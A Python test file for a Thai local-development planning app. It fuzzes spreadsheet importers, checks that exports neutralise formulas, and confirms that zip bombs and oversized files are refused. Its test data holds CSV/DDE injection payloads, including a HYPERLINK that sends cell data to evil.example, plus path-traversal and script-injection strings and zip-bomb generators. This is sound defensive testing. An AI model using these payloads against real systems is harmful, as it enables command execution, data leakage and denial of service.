"""Hostile input for every spreadsheet importer (issue 8, part 4) and formula escaping in the exports.

Property: whatever the cells hold (Thai and Arabic digits, emoji, RTL and zero-width characters, 10,000
character strings, numbers, dates and booleans in text columns, formulas, control characters, empty rows,
missing, extra and duplicated headers), an importer either succeeds or raises the application's validation
error (`TabularError` / `ValidationError`), never anything else, and when it raises, the database is exactly
as it was.

Then: text that a spreadsheet would take for a formula, saved through the importers, comes back out of every
export as text that cannot evaluate; and the reader refuses zip bombs, huge sheets and gigantic CSV lines
quickly with a Thai message.
"""

from __future__ import annotations

import csv
import datetime
import io
import time
import zipfile

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from tambonplan.areas import services as area_services
from tambonplan.areas.models import Village
from tambonplan.committees import services as committee_services
from tambonplan.committees.models import Member
from tambonplan.core import tabular
from tambonplan.core.tabular import Column, TabularError, build_xlsx_template, read_table
from tambonplan.documents.xlsx import FORMULA_PREFIXES, Sheet, build_xlsx
from tambonplan.planning import exchange, imports
from tambonplan.planning import exports as plan_exports
from tambonplan.planning.models import Need, Project, ProjectBudget, ProjectClass
from tests.committees import factories as committee_factories
from tests.planning.factories import make_plan

pytestmark = pytest.mark.slow

HYPOTHESIS = settings(
    max_examples=40,
    deadline=None,
    suppress_health_check=[
        HealthCheck.function_scoped_fixture,
        HealthCheck.too_slow,
        HealthCheck.data_too_large,
    ],
    database=None,
)

# ---------------------------------------------------------------------------------------------- strategies

FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"คลิก")',
    "+1+1",
    "-2",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
    "=SUM(A1:A2)",
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
]
ODD = [
    "",
    " ",
    "๑๒๓",
    "๐",
    "๙๙๙๙๙๙๙๙๙๙๙๙๙๙๙๙๙๙๙๙",
    "٣",  # Arabic-Indic digit
    "²",  # superscript two: isdigit() but not int()
    "①",
    "1e400",
    "NaN",
    "inf",
    "-0",
    "1,2,3",
    "9" * 5000,  # more digits than int() converts by default
    "😀🇹🇭",
    "\u202eฟหกด\u202c",  # right-to-left override
    "\u200b\u200c\u200d\ufeff",
    "مرحبا بالعالم",
    "x" * 10_000,
    "ก" * 10_000,
    "\x00",
    "ab\x00cd",
    "\x01\x02\x1b[31m",
    "\x7f",
    "line1\nline2",
    "'quoted",
    '"',
    'a""b',
    "<script>alert(1)</script>",
    "../../etc/passwd",
    "หมู่ที่ ๒",
    "ม.3",
    "ทุกหมู่บ้าน",
    "ทั้งตำบล",
    "-",
]
SCALARS = st.one_of(
    st.integers(min_value=-(10**20), max_value=10**20),
    st.floats(allow_nan=False, allow_infinity=False),
    st.booleans(),
    st.dates(min_value=datetime.date(1900, 3, 1), max_value=datetime.date(2600, 1, 1)),
    st.none(),
)
ALPHABET = st.characters(codec="utf-8", exclude_categories=["Cs"])
TEXT = st.one_of(
    st.sampled_from(FORMULAS),
    st.sampled_from(ODD),
    st.text(ALPHABET, max_size=30),
    st.text("๐๑๒๓๔๕๖๗๘๙0123456789,. -บาท", max_size=12),
)


def cells(valid: list[str]) -> st.SearchStrategy[object]:
    """A cell: mostly a valid value of the column (so some rows reach the writer), else anything hostile."""
    hostile = st.one_of(TEXT, SCALARS)
    if not valid:
        return hostile
    return st.one_of(st.sampled_from(valid), st.sampled_from(valid), hostile)


@st.composite
def tables(draw, columns: dict[str, list[str]], *, extra_headers: tuple[str, ...] = ()) -> list[list[object]]:
    """A header row (a random choice, order and duplication of the importer's headers plus garbage), then
    up to 6 rows, some empty, some short, some long."""
    names = list(columns)
    headers = draw(
        st.lists(st.sampled_from(names + list(extra_headers)), min_size=0, max_size=len(names) + 2)
    )
    if draw(st.booleans()):
        headers = names + headers[: draw(st.integers(0, 2))]  # mostly a complete header row
    headers = [
        draw(st.sampled_from([h, h.upper(), f" {h} ", f"{h}*"])) if h in columns else h for h in headers
    ]
    if draw(st.integers(0, 9)) == 0:
        headers.append(draw(TEXT))
    rows: list[list[object]] = [list(headers)]
    for _ in range(draw(st.integers(0, 6))):
        kind = draw(st.integers(0, 9))
        if kind == 0:
            rows.append([])  # an empty row
            continue
        row = []
        for header in headers:
            key = header.strip().rstrip("*").lower() if isinstance(header, str) else None
            row.append(draw(cells(columns.get(key, columns.get(header, [])))))
        if kind == 1:
            row = row[: draw(st.integers(0, len(row)))]
        elif kind == 2:
            row += draw(st.lists(st.one_of(TEXT, SCALARS), max_size=3))
        rows.append(row)
    return rows


def _xlsx_value(value: object) -> object:
    if isinstance(value, str):  # openpyxl cannot write control characters; a real file cannot hold them
        return ILLEGAL_CHARACTERS_RE.sub("", value)
    return value


def to_xlsx(rows: list[list[object]], sheet_title: str = "Sheet") -> bytes:
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = sheet_title
    for row in rows:
        sheet.append([_xlsx_value(value) for value in row])  # "=..." is written as a real formula
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def to_csv(rows: list[list[object]], delimiter: str = ",") -> bytes:
    buffer = io.StringIO()
    csv.writer(buffer, delimiter=delimiter).writerows(rows)
    return buffer.getvalue().encode("utf-8")


@st.composite
def uploads(
    draw, columns: dict[str, list[str]], *, sheet: str = "Sheet", extra_headers: tuple[str, ...] = ()
):
    rows = draw(tables(columns, extra_headers=extra_headers))
    kind = draw(st.sampled_from(["xlsx", "csv", "csv;", "tsv"]))
    if kind == "xlsx":
        content = to_xlsx(rows, draw(st.sampled_from([sheet, "Sheet1"])))
    else:
        content = to_csv(rows, {"csv": ",", "csv;": ";", "tsv": "\t"}[kind])
    name = draw(st.sampled_from(["data.xlsx", "data.csv", "../../x.csv", "ข้อมูล.pdf"]))
    return SimpleUploadedFile(name, content)


# ---------------------------------------------------------------------------------------------- database state

PROJECT_VILLAGES = Project.villages.through
PROJECT_NEEDS = Project.needs.through


def snapshot(*models) -> dict[str, list[tuple]]:
    """Every row of the models' tables (and their history tables), for an exact before/after comparison."""
    state = {}
    for model in models:
        state[model._meta.label] = list(model.objects.order_by("pk").values_list())
        history = getattr(model, "history", None)
        if history is not None and hasattr(history, "model"):
            state[history.model._meta.label] = list(history.model.objects.order_by("pk").values_list())
    return state


def assert_fits_columns(models) -> None:
    """Every text an import wrote fits its column and holds no NUL (SQLite does not care; PostgreSQL refuses
    both with an error, a server error for the user)."""
    from django.db import models as django_models

    for model in models:
        text_types = django_models.CharField | django_models.TextField
        fields = [f for f in model._meta.concrete_fields if isinstance(f, text_types)]
        if model._meta.auto_created or not fields:
            continue
        for values in model.objects.values_list(*(f.attname for f in fields)):
            for field, value in zip(fields, values, strict=True):
                if isinstance(value, str):
                    assert "\x00" not in value, (model, field.name)
                    if field.max_length:
                        assert len(value) <= field.max_length, (model, field.name, len(value))


def check_import(run, models) -> None:
    before = snapshot(*models)
    try:
        run()
    except (TabularError, ValidationError) as error:
        if isinstance(error, TabularError):
            assert error.errors and all(e.message for e in error.errors)
        assert snapshot(*models) == before, "a refused import changed the database"
    else:
        assert_fits_columns(models)


# ---------------------------------------------------------------------------------------------- fixtures

HUA_RUEA = "340104"


@pytest.fixture
def plan(db):
    return make_plan()


@pytest.fixture
def villages(plan):
    made = []
    for moo in (1, 2, 3):
        made.append(
            Village.objects.get_or_create(
                code=Village.code_for(HUA_RUEA, moo),
                defaults={"tambon_id": HUA_RUEA, "moo": moo, "name_th": f"บ้านทดสอบ{moo}"},
            )[0]
        )
    return made


@pytest.fixture
def projects(plan, villages):
    support = ProjectClass.objects.get(code="support")
    community = ProjectClass.objects.get(code="community")
    return [
        Project.objects.create(plan=plan, name="ก่อสร้างถนน", project_class=support, target_kind="district"),
        Project.objects.create(plan=plan, name="ฝึกอาชีพ", project_class=community),
        Project.objects.create(plan=plan, name="ฝึกอาชีพ", project_class=community),  # an ambiguous name
    ]


# ---------------------------------------------------------------------------------------------- importers

VILLAGE_COLUMNS = {
    "village_code": ["34010401", "3401040๒", "34010400", "34010499", "99999999"],
    "tambon_code": ["340104", "๓๔๐๑๐๔", "340105", "341501", "000000"],
    "moo": ["1", "๒", "หมู่ที่ 3", "ม.4", "0", "100"],
    "name_th": ["บ้านหัวเรือ", "บ้านโนนสูง", "=บ้าน"],
    "name_en": ["Ban Hua Ruea", "+Ban"],
}


@HYPOTHESIS
@given(upload=uploads(VILLAGE_COLUMNS, extra_headers=("รหัสตำบล", "หมู่ที่", "ชื่อหมู่บ้าน")))
def test_villages_import_never_errors_nor_writes_half(db, upload):
    check_import(lambda: area_services.villages_import(user=None, upload=upload), [Village])


NEED_COLUMNS = {
    "moo": ["1", "๒", "หมู่ที่ 3", "9", "ทั้งตำบล"],
    "category": ["สาธารณสุข", "ด้านเศรษฐกิจ", "โครงสร้างพื้นฐาน"],
    "description": ["ถนนชำรุด", "น้ำไม่พอใช้", "=1+1", "ถนน ชำรุด"],
    "source": ["ประชาคม", "forum", "จปฐ."],
    "severity": ["1", "๕", "6"],
    "votes": ["0", "๑,๒๐๔", "-1"],
}


@HYPOTHESIS
@given(upload=uploads(NEED_COLUMNS, sheet=imports.NEEDS_SHEET, extra_headers=("ปัญหา/ความต้องการ",)))
def test_needs_import_never_errors_nor_writes_half(plan, villages, personas, upload):
    check_import(lambda: imports.needs_import(user=personas.tambon_officer, plan=plan, upload=upload), [Need])


def project_columns_for(plan) -> dict[str, list[str]]:
    years = imports.budget_years(plan)
    columns = {
        "priority": ["1", "๒", "0", "40000"],
        "name": ["ก่อสร้างถนน", "ฝึกอาชีพ", "ขุดลอกหนอง", '=HYPERLINK("x")'],
        "objective": ["เพื่อ", "-เพื่อ"],
        "villages": ["1, 3", "ทุกหมู่บ้าน", "๒", "4", "1;2/3"],
        "kpi": ["ระยะทาง"],
        "project_class": ["support", "community", "ชุมชนดำเนินการเอง"],
        "target_kind": ["อปท.", "แผนพัฒนาอำเภอ", "ภาคี"],
        "category": ["ด้านสาธารณสุข", "สาธารณสุข", "ด้านกีฬา"],
        "needs": ["ถนนชำรุด", "#1", "#99999999999", "ถนนชำรุด;,\n,", ",".join(["ก"] * 2000)],
        "status": ["เสนอ", "proposed", "accepted"],
        f"budget_{years[0]}": ["150,000", "๑๐๐๐", "0", "-5", "1.005", "999999999999999"],
        f"budget_{years[1]}": ["-", "", "12.50"],
        f"other_{years[0] - 1}": ["0", "5"],
    }
    return columns


@HYPOTHESIS
@given(data=st.data())
def test_projects_import_never_errors_nor_writes_half(plan, villages, projects, personas, data):
    upload = data.draw(
        uploads(project_columns_for(plan), sheet=imports.PROJECTS_SHEET, extra_headers=("ประเภท",))
    )
    check_import(
        lambda: imports.projects_import(user=personas.tambon_officer, plan=plan, upload=upload),
        [Project, ProjectBudget, PROJECT_VILLAGES, PROJECT_NEEDS],
    )


@HYPOTHESIS
@given(data=st.data())
def test_project_status_import_never_errors_nor_writes_half(plan, projects, personas, data):
    columns = {
        "project_id": [str(p.pk) for p in projects] + ["๑", "0", "-1", "99999999999999999999"],
        "name": ["ก่อสร้างถนน", "ฝึกอาชีพ", "ไม่มี"],
        "status": ["accepted", "เสนอ", "ดำเนินการ", "=cmd|' /C calc'!A0"],
    }
    upload = data.draw(uploads(columns, sheet=imports.STATUS_SHEET))
    check_import(
        lambda: imports.project_status_import(user=personas.tambon_officer, plan=plan, upload=upload),
        [Project],
    )


P02_TITLE_ROWS = [
    ["", "รายละเอียดโครงการพัฒนา", "", "แบบ ผ.02"],
    ["แผนพัฒนาท้องถิ่น (พ.ศ. ๒๕๖๖–๒๕๗๐)"],
    [],
    ["โครงการ"],
]


@HYPOTHESIS
@given(data=st.data())
def test_p02_exchange_import_never_errors_nor_writes_half(plan, villages, projects, personas, data):
    """The ผ.02 file back from a local government, with or without its title rows above the header."""
    year = imports.budget_years(plan)[0]
    columns = {
        "ที่": ["1", "ยุทธศาสตร์ที่ ๑ ถนน", "แผนงาน ๑.๑ ขอรับการสนับสนุน: อปท.", "แผนงาน 1.2 ชุมชนดำเนินการเอง", "รวม"],
        "โครงการ": ["ก่อสร้างถนน", "ฝึกอาชีพ", "ขุดลอกหนอง", "=1+1", "รวม 2 โครงการ", "ยุทธศาสตร์ที่ 2"],
        "วัตถุประสงค์": ["เพื่อ", "-เพื่อ"],
        "ตัวชี้วัด": ["ระยะทาง"],
        f"งบประมาณ {year} (บาท)": ["150,000", "๑๐๐๐", "0", "-5", "1.005", "999999999999999"],
        f"งบประมาณ {year - 1} (บาท)": ["0", "5"],
        "รหัสอ้างอิง": [
            exchange.reference(projects[0], plan),
            f"TP-340105-{year}-1",
            f"TP-340104-{year}-0",
            "x",
        ],
    }
    rows = data.draw(st.lists(st.sampled_from(P02_TITLE_ROWS), max_size=4)) + data.draw(tables(columns))
    content = to_xlsx(rows, exchange.FORM_SHEET) if data.draw(st.booleans()) else to_csv(rows)
    check_import(
        lambda: exchange.form_import(
            user=personas.tambon_officer, plan=plan, upload=SimpleUploadedFile("p02.xlsx", content)
        ),
        [Project, ProjectBudget, PROJECT_VILLAGES, PROJECT_NEEDS],
    )


MEMBER_COLUMNS = {
    "title": ["นาย", "นาง", "=cmd"],
    "first_name": ["สมชาย", "สมศรี", "บุญมี", "-สมชาย"],
    "last_name": ["ใจดี", "", "@มีสุข"],
    "position": ["ประธาน", "กรรมการ", "รองประธาน", "ไม่มีตำแหน่งนี้"],
    "basis": ["โดยตำแหน่ง", "ex_officio", "ผู้ทรงคุณวุฒิ", ""],
    "ex_officio_post": ["กำนัน", ""],
    "affiliation": ["ตำบลหัวเรือ", "+โรงเรียน"],
    "phone": ["0812345678", "๐๘๑๒๓๔๕๖๗๘", "=1"],
}


@HYPOTHESIS
@given(upload=uploads(MEMBER_COLUMNS, extra_headers=("ชื่อ", "ตำแหน่งในคณะกรรมการ")))
def test_members_import_never_errors_nor_writes_half(personas, upload):
    order = draft_order(personas)
    check_import(
        lambda: committee_services.members_import(user=personas.district_officer, order=order, upload=upload),
        [Member],
    )


def draft_order(personas):
    from tambonplan.committees.models import AppointmentOrder, OrderState

    existing = AppointmentOrder.objects.filter(
        state=OrderState.DRAFT, committee__area_code=HUA_RUEA, committee__kind__code="kbt"
    ).first()
    if existing is not None:
        return existing
    return committee_services.order_draft_start(
        user=personas.district_officer,
        kind=committee_factories.kind("kbt"),
        area=committee_factories.area("kbt", HUA_RUEA),
    )


# ---------------------------------------------------------------------------------------------- the reader itself

READER_COLUMNS = (Column("a", ("a", "ก"), required=True), Column("b", ("b", "ข")))


def _valid_xlsx() -> bytes:
    return to_xlsx([["a", "b"], ["1", "=1+1"], ["๒", "x"]])


@settings(max_examples=60, deadline=None, database=None)
@given(
    position=st.integers(min_value=0, max_value=len(_valid_xlsx()) - 1),
    garbage=st.binary(min_size=1, max_size=16),
)
def test_read_table_survives_corrupted_xlsx_bytes(position, garbage):
    data = bytearray(_valid_xlsx())
    data[position : position + len(garbage)] = garbage
    try:
        read_table(bytes(data), columns=READER_COLUMNS)
    except TabularError as error:
        assert error.errors[0].message


def test_a_zip_naming_a_version_zipfile_cannot_read_is_reported():
    """Found by the fuzzer above: a central directory entry needing ZIP version 6.4 (zipfile raises
    NotImplementedError while opening) is a damaged file to the user, not a server error."""
    data = bytearray(_valid_xlsx())
    entry = data.index(b"PK\x01\x02")
    data[entry + 6] = 64  # "version needed to extract"
    with pytest.raises(TabularError) as error:
        read_table(bytes(data), columns=READER_COLUMNS)
    assert error.value.errors[0].message


@settings(max_examples=60, deadline=None, database=None)
@given(data=st.binary(max_size=400))
def test_read_table_survives_arbitrary_bytes(data):
    try:
        read_table(data, columns=READER_COLUMNS)
    except TabularError as error:
        assert error.errors[0].message


@settings(max_examples=40, deadline=None, database=None)
@given(value=TEXT)
def test_read_table_drops_control_characters_from_cells(value):
    """NUL and other C0 control characters never reach the database (PostgreSQL refuses NUL in text)."""
    text = ILLEGAL_CHARACTERS_RE.sub("", value) if isinstance(value, str) else value
    content = to_csv([["a", "b"], ["x", f"{text}\x01\x02\x1f"]])
    rows = read_table(content, columns=READER_COLUMNS)
    assert not ILLEGAL_CHARACTERS_RE.search(rows[0].values["b"])


# ---------------------------------------------------------------------------------------------- formula escaping

DANGEROUS = ["=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1", '=HYPERLINK("http://x")']


def assert_inert(cell) -> None:
    """The cell is stored as text: never a formula, and marked quote-prefixed when it looks like one."""
    assert cell.data_type in ("s", "inlineStr"), (cell.coordinate, cell.value, cell.data_type)
    if isinstance(cell.value, str) and cell.value.startswith(FORMULA_PREFIXES):
        assert cell.quotePrefix, (cell.coordinate, cell.value)


def text_cells(content: bytes):
    workbook = load_workbook(io.BytesIO(content))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) or cell.data_type == "f":
                    yield cell


def assert_workbook_inert(content: bytes, expected: list[str]) -> None:
    found = set()
    for cell in text_cells(content):
        assert cell.data_type != "f", f"formula in {cell.coordinate}: {cell.value!r}"
        assert_inert(cell)
        found.add(cell.value)
    for text in expected:
        assert any(text.strip() in value for value in found if isinstance(value, str)), text


@settings(max_examples=60, deadline=None, database=None)
@given(value=st.one_of(st.sampled_from(DANGEROUS), st.text(ALPHABET, max_size=40)))
def test_build_xlsx_never_writes_a_formula(value):
    content = build_xlsx([Sheet(title="=x", headers=[value, "h"], rows=[[value, 1], [f"{value}", None]])])
    for cell in text_cells(content):
        assert cell.data_type != "f"
        assert_inert(cell)


@settings(max_examples=60, deadline=None, database=None)
@given(value=st.one_of(st.sampled_from(DANGEROUS), st.text(ALPHABET, max_size=40)))
def test_build_xlsx_template_never_writes_a_formula_nor_fails_on_control_characters(value):
    content = build_xlsx_template(
        READER_COLUMNS, sheet_title="แม่แบบ", example_rows=[[value, value]], notes=[value or "x"]
    )
    for cell in text_cells(content):
        assert cell.data_type != "f"
        assert_inert(cell)


def test_formulas_imported_into_a_plan_come_out_of_its_exports_as_text(plan, villages, personas):
    year = plan.fiscal_year
    rows = [
        ["ด้าน", "ปัญหา/ความต้องการ"],
        *[["สาธารณสุข", f"{text} ปัญหา {index}"] for index, text in enumerate(DANGEROUS)],
    ]
    imports.needs_import(
        user=personas.tambon_officer, plan=plan, upload=SimpleUploadedFile("n.csv", to_csv(rows))
    )
    headers = ["ชื่อโครงการ", "ประเภท", "วัตถุประสงค์", "ตัวชี้วัด", "หน่วยงานรับผิดชอบหลัก",
               "ชื่อหน่วยงานที่ขอรับการสนับสนุน", "ขอรับการสนับสนุนจาก", f"งบประมาณ {year}"]  # fmt: skip
    project_rows = [
        [f"{text} โครงการ {index}", "community", text, text, text, text, "อปท.", "1000"]
        for index, text in enumerate(DANGEROUS)
    ]
    result = imports.projects_import(
        user=personas.tambon_officer,
        plan=plan,
        upload=SimpleUploadedFile("p.csv", to_csv([headers, *project_rows])),
    )
    assert result["created"] == len(DANGEROUS)
    stored = set(Project.objects.filter(plan=plan).values_list("objective", flat=True))
    assert {t.strip() for t in DANGEROUS} <= {s.strip() for s in stored}

    assert_workbook_inert(plan_exports.plan_workbook(plan), [f"{t} โครงการ" for t in DANGEROUS])
    province = plan.tambon.district.province
    assert_workbook_inert(
        plan_exports.province_projects_workbook(personas.province_officer, province, year),
        [f"{t} โครงการ" for t in DANGEROUS],
    )
    for template in (plan_exports.needs_template(plan), plan_exports.projects_template(plan),
                     plan_exports.status_template(plan)):  # fmt: skip
        assert_workbook_inert(template, [])


def test_formulas_in_members_and_order_numbers_come_out_of_committee_exports_as_text(personas):
    from tambonplan.committees import exports as committee_exports
    from tambonplan.committees import selectors as committee_selectors

    order = committee_factories.order("kbt", HUA_RUEA, number="=cmd|' /C calc'!A0")
    rows = committee_selectors.committee_rows(
        personas.province_officer, fiscal_year=committee_factories.fiscal_year(), province_code="34"
    )
    assert any(row.order and row.order.pk == order.pk for row in rows)
    assert_workbook_inert(committee_exports.district_workbook(rows), [order.number])
    assert_workbook_inert(
        committee_exports.province_workbook(committee_selectors.overview_of(rows), rows), [order.number]
    )


def test_exports_only_write_through_the_formula_safe_writers():
    """Every module that produces a spreadsheet does it through build_xlsx / build_xlsx_template (which
    escape formulas), never with openpyxl directly, and no CSV is produced anywhere."""
    import pathlib

    import tambonplan

    root = pathlib.Path(tambonplan.__file__).parent
    allowed = {
        root / "core" / "tabular.py",
        root / "core" / "sheet_reader.py",  # reads uploads in a child process, never writes a spreadsheet
        root / "documents" / "xlsx.py",
        root / "areas" / "demo.py",  # a CSV of made-up demo villages fed to the importer, never downloaded
        root / "villagedata" / "demo.py",  # likewise made-up survey results fed to the importer
        root / "opendata" / "files.py",  # the open-data CSV (the issue asks for CSV); formulas escaped there
    }
    offenders = []
    for path in root.rglob("*.py"):
        if path in allowed or "migrations" in path.parts or "bench" in path.parts:  # benchmarks only
            continue
        source = path.read_text(encoding="utf-8")
        if (
            "openpyxl" in source
            or "csv.writer" in source
            or "csv.DictWriter" in source
            or "text/csv" in source
        ):
            offenders.append(str(path.relative_to(root)))
    assert offenders == []


# ---------------------------------------------------------------------------------------------- bombs and limits


def _zip_xlsx(sheet_xml_chunks, *, dimension: str | None = None) -> bytes:
    """A minimal XLSX whose one sheet is the XML from the chunks, compressed (a few KB for GBs of rows)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr(
            "[Content_Types].xml",
            '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.'
            'spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="'
            'application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>',
        )
        archive.writestr(
            "_rels/.rels",
            '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
            'relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/'
            '2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        )
        archive.writestr(
            "xl/workbook.xml",
            '<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
            'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>'
            '<sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>',
        )
        archive.writestr(
            "xl/_rels/workbook.xml.rels",
            '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
            'relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/'
            '2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
        )
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
            sheet.write(
                b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/'
                b'2006/main">'
            )
            if dimension:
                sheet.write(f'<dimension ref="{dimension}"/>'.encode())
            sheet.write(b"<sheetData>")
            for chunk in sheet_xml_chunks:
                sheet.write(chunk)
            sheet.write(b"</sheetData></worksheet>")
    return buffer.getvalue()


def _rows_xml(count: int, *, start: int = 1):
    batch = 10_000
    for first in range(start, start + count, batch):
        yield b"".join(
            b'<row r="%d"><c r="A%d" t="inlineStr"><is><t>a</t></is></c></row>' % (n, n)
            for n in range(first, min(first + batch, start + count))
        )


def refused_quickly(content, *, seconds: float = 3.0, **kwargs) -> TabularError:
    started = time.monotonic()
    with pytest.raises(TabularError) as caught:
        read_table(content, columns=READER_COLUMNS, **kwargs)
    assert time.monotonic() - started < seconds, "took too long to refuse"
    message = caught.value.errors[0].message
    assert any("\u0e00" <= ch <= "\u0e7f" for ch in message), message  # a Thai message
    return caught.value


def test_a_sheet_of_more_rows_than_the_limit_is_refused(settings):
    settings.IMPORT_MAX_ROWS = 1000
    content = _zip_xlsx(_rows_xml(5000))
    error = refused_quickly(content)
    assert "แถว" in error.errors[0].message


def _bare_rows_xml(count: int):
    """Rows and cells without references (allowed by the format): they compress about 1000 to 1."""
    batch = b'<row><c t="inlineStr"><is><t>a</t></is></c></row>' * 10_000
    for _ in range(count // 10_000):
        yield batch


def test_a_zip_bomb_is_refused_by_its_expanded_size(settings):
    settings.IMPORT_MAX_BYTES = 1024 * 1024  # may expand to 50 MB: the sheet expands to about 100 MB
    content = _zip_xlsx(_bare_rows_xml(2_000_000))
    assert len(content) < settings.IMPORT_MAX_BYTES
    error = refused_quickly(content)
    assert "ใหญ่เกิน" in error.errors[0].message


def test_a_zip_bomb_of_rows_without_references_is_refused_while_streaming(settings):
    """Within the expansion limit, but far more rows than allowed: refused before any parser reads it."""
    settings.IMPORT_MAX_ROWS = 100_000
    content = _zip_xlsx(_bare_rows_xml(2_000_000))
    error = refused_quickly(content, seconds=2.0)
    assert "แถว" in error.errors[0].message


def test_a_huge_declared_dimension_with_far_away_cells_is_refused():
    far = [b'<row r="1"><c r="A1" t="inlineStr"><is><t>a</t></is></c><c r="XFD1" t="inlineStr"><is><t>b</t>'
           b'</is></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>']  # fmt: skip
    refused_quickly(_zip_xlsx(far, dimension="A1:XFD1048576"))


def test_a_huge_declared_dimension_alone_does_not_blow_up():
    content = _zip_xlsx([b'<row r="1"><c r="A1" t="inlineStr"><is><t>a</t></is></c></row>'
                         b'<row r="2"><c r="A2" t="inlineStr"><is><t>x</t></is></c></row>'],
                        dimension="A1:XFD1048576")  # fmt: skip
    started = time.monotonic()
    rows = read_table(content, columns=READER_COLUMNS)
    assert time.monotonic() - started < 3
    assert [row.values["a"] for row in rows] == ["x"]


def test_a_file_over_the_size_limit_is_refused(settings):
    settings.IMPORT_MAX_BYTES = 1024 * 1024
    error = refused_quickly(SimpleUploadedFile("big.csv", b"a,b\n" + b"x,y\n" * 300_000))
    assert "MB" in error.errors[0].message
    fake = SimpleUploadedFile("big.xlsx", b"PK\x03\x04")
    fake.size = 50 * 1024 * 1024  # the declared size is enough to refuse without reading
    refused_quickly(fake)


def test_a_csv_with_a_gigantic_single_line_is_refused_quickly():
    content = b"a,b\n" + b'"' + b"x" * (5 * 1024 * 1024) + b'",y\n'
    error = refused_quickly(content)
    assert "ยาวเกิน" in error.errors[0].message and error.errors[0].row == 2


def test_a_csv_with_a_gigantic_header_line_is_handled_quickly():
    content = b",".join([b"z"] * 2_000_000) + b",a\n" + b"x\n"
    started = time.monotonic()
    try:
        read_table(content, columns=READER_COLUMNS)
    except TabularError as error:
        assert error.errors[0].message
    assert time.monotonic() - started < 8


@pytest.mark.parametrize("content", [b"\x89PNG\r\n\x1a\n" + b"\x00" * 30, b"%PDF-1.4\n", b"<svg onload=alert(1)>",
                                     b"<html><script>alert(1)</script></html>\x00"])  # fmt: skip
def test_a_non_table_file_named_xlsx_is_refused(content):
    refused_quickly(SimpleUploadedFile("data.xlsx", content))


def test_limits_are_sane():
    assert tabular.MAX_CELLS <= 10_000_000
    assert tabular.ZIP_EXPANSION_FACTOR * tabular.DEFAULT_MAX_BYTES <= 2 * 1024**3


# ---------------------------------------------------------------------------------------------- every odd value in
# every column, deterministically (the properties above sample them; these make sure each one is tried)

HOSTILE_VALUES = ODD + FORMULAS


def _each_value_in_each_column(columns: dict[str, list[str]]):
    names = list(columns)
    good = [values[0] for values in columns.values()]
    for index, _name in enumerate(names):
        for value in HOSTILE_VALUES:
            row = list(good)
            row[index] = value
            yield [names, row]


def test_every_hostile_value_in_every_village_column(db):
    for rows in _each_value_in_each_column(
        {key: VILLAGE_COLUMNS[key] for key in ("tambon_code", "moo", "name_th")}
    ):
        upload = SimpleUploadedFile("v.csv", to_csv(rows))
        check_import(lambda upload=upload: area_services.villages_import(user=None, upload=upload), [Village])
    for rows in _each_value_in_each_column(VILLAGE_COLUMNS):
        upload = SimpleUploadedFile("v.csv", to_csv(rows))
        check_import(lambda upload=upload: area_services.villages_import(user=None, upload=upload), [Village])


def test_every_hostile_value_in_every_need_column(plan, villages, personas):
    for rows in _each_value_in_each_column(NEED_COLUMNS):
        upload = SimpleUploadedFile("n.csv", to_csv(rows))
        check_import(
            lambda upload=upload: imports.needs_import(
                user=personas.tambon_officer, plan=plan, upload=upload
            ),
            [Need],
        )


def test_every_hostile_value_in_every_project_column(plan, villages, projects, personas):
    for rows in _each_value_in_each_column(project_columns_for(plan)):
        upload = SimpleUploadedFile("p.csv", to_csv(rows))
        check_import(
            lambda upload=upload: imports.projects_import(
                user=personas.tambon_officer, plan=plan, upload=upload
            ),
            [Project, ProjectBudget, PROJECT_VILLAGES, PROJECT_NEEDS],
        )


def test_every_hostile_value_in_every_status_column(plan, projects, personas):
    columns = {"project_id": [str(projects[0].pk)], "name": ["ก่อสร้างถนน"], "status": ["accepted"]}
    for rows in _each_value_in_each_column(columns):
        upload = SimpleUploadedFile("s.csv", to_csv(rows))
        check_import(
            lambda upload=upload: imports.project_status_import(
                user=personas.tambon_officer, plan=plan, upload=upload
            ),
            [Project],
        )


def test_every_hostile_value_in_every_member_column(personas):
    order = draft_order(personas)
    for rows in _each_value_in_each_column(MEMBER_COLUMNS):
        upload = SimpleUploadedFile("m.csv", to_csv(rows))
        check_import(
            lambda upload=upload: committee_services.members_import(
                user=personas.district_officer, order=order, upload=upload
            ),
            [Member],
        )


